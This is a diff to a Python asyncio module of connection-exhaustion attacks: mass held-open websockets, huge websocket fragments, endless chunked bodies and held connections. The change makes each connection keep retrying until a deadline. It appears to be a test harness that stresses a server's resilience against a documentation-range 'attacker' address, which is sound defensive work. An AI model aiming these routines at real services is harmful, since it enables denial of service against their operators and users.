@@ -18,13 +18,14 @@ import struct
 import time
 import zlib
 from collections import Counter
-from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterable
+from collections.abc import AsyncIterator, Awaitable, Callable
 from dataclasses import dataclass, field
-from typing import Any
 
 ATTACKER = "198.51.100.66"
 """The address that the proxy before front saw (documentation range of RFC 5737)."""
 _CONNECT_SECONDS = 5.0
+COME_BACK_SECONDS = 10.0
+"""Between two tries of a connection that is turned away or closed: an attack goes on until its time is up."""
 
 
 @dataclass
@@ -93,7 +94,7 @@ async def packed_websockets(target: Target, connections: int = 3500) -> None:
             await socket.receive()
             await _until_closed(target, socket.reader)
 
-    await _gradually(target, (stay() for _ in range(connections)))
+    await _gradually(target, stay, connections)
 
 
 async def websocket_fragments(target: Target, connections: int = 4000, fragment_bytes: int = 90_000) -> None:
@@ -104,7 +105,7 @@ async def websocket_fragments(target: Target, connections: int = 4000, fragment_
             await socket.send(b"x" * fragment_bytes, final=False)
             await _until_closed(target, socket.reader)
 
-    await _gradually(target, (stay() for _ in range(connections)))
+    await _gradually(target, stay, connections)
 
 
 async def endless_chunks(target: Target, connections: int = 120) -> None:
@@ -122,7 +123,7 @@ async def endless_chunks(target: Target, connections: int = 120) -> None:
                     break
             await _until_closed(target, reader)
 
-    await _gradually(target, (send() for _ in range(connections)))
+    await _gradually(target, send, connections)
 
 
 async def unfinished_bodies(target: Target, connections: int = 2500, body_bytes: int = 100_000) -> None:
@@ -180,15 +181,20 @@ async def _repeat(target: Target, visit: Callable[[], Awaitable[None]]) -> None:
             await asyncio.sleep(0.05)
 
 
-async def _gradually(target: Target, visits: Iterable[Coroutine[Any, Any, None]], at_once: int = 100) -> None:
-    """Start `at_once` visits every tenth of a second; those that are under way when time is up end by themselves."""
+async def _gradually(target: Target, visit: Callable[[], Awaitable[None]], connections: int) -> None:
+    """Begin 100 visits every tenth of a second; each comes again some seconds after it was turned away or closed."""
+
+    async def stay() -> None:
+        while not target.over:
+            await _tolerate(target, visit())
+            await asyncio.sleep(min(COME_BACK_SECONDS, max(0.0, target.deadline - time.monotonic())))
+
     async with asyncio.TaskGroup() as group:
-        for number, visit in enumerate(visits):
+        for number in range(connections):
             if target.over:
-                visit.close()
-                continue
-            group.create_task(_tolerate(target, visit))
-            if number % at_once == at_once - 1:
+                return
+            group.create_task(stay())
+            if number % 100 == 99:
                 await asyncio.sleep(0.1)
 
 
@@ -200,7 +206,7 @@ async def _hold(target: Target, sent: bytes, connections: int) -> None:
             writer.write(sent)
             await _until_closed(target, reader)
 
-    await _gradually(target, (stay() for _ in range(connections)))
+    await _gradually(target, stay, connections)
 
 
 async def _until_closed(target: Target, reader: asyncio.StreamReader) -> None:
